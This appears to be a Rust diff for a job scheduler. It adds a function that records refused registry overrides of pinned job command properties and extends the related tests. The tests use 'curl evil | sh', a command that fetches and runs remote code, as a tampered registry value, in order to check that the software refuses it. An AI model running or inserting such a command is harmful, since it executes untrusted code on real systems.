@@ -15,7 +15,7 @@
 use std::collections::BTreeMap;
 
 use crate::config::schema::{EXTENSIONS, prop};
-use crate::registry::codec::JobType;
+use crate::registry::codec::{JobType, RefusedValue};
 
 /// The pinned command properties of one job, as its job file gives them.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -117,6 +117,14 @@ pub fn describe(refused: &[Refused]) -> String {
         .join("; ")
 }
 
+/// What a run records of `refused` on its item's `result` leaf, for `ejctl why`.
+pub fn recorded(refused: &[Refused]) -> Vec<RefusedValue> {
+    refused
+        .iter()
+        .map(|r| RefusedValue { prop: r.prop.to_string(), registry: r.registry.clone(), job_file: r.pinned.clone() })
+        .collect()
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -127,7 +135,8 @@ mod tests {
 
     #[test]
     fn pinned_properties_per_type() {
-        let listeners = [prop::LISTENER_BEFORE, prop::LISTENER_AFTER];
+        let listeners =
+            [prop::LISTENER_BEFORE, prop::LISTENER_AFTER, prop::LISTENER_BEFORE_ONCE, prop::LISTENER_AFTER_ONCE];
         assert_eq!(pinned_props(&JobType::Script), [&[prop::SCRIPT_COMMAND_LINE][..], &listeners].concat());
         let http = [prop::HTTP_URI, prop::HTTP_METHOD, prop::HTTP_DATA];
         assert_eq!(pinned_props(&JobType::Http), [&http[..], &listeners].concat());
@@ -158,6 +167,14 @@ mod tests {
         assert_eq!(
             describe(&applied.refused),
             "script.command.line: the registry has 'curl evil | sh', the job file '/opt/job.sh'"
+        );
+        assert_eq!(
+            recorded(&applied.refused),
+            vec![RefusedValue {
+                prop: prop::SCRIPT_COMMAND_LINE.into(),
+                registry: Some("curl evil | sh".into()),
+                job_file: Some("/opt/job.sh".into())
+            }]
         );
         // Removed from the registry: refused too, the job file's runs.
         assert_eq!(
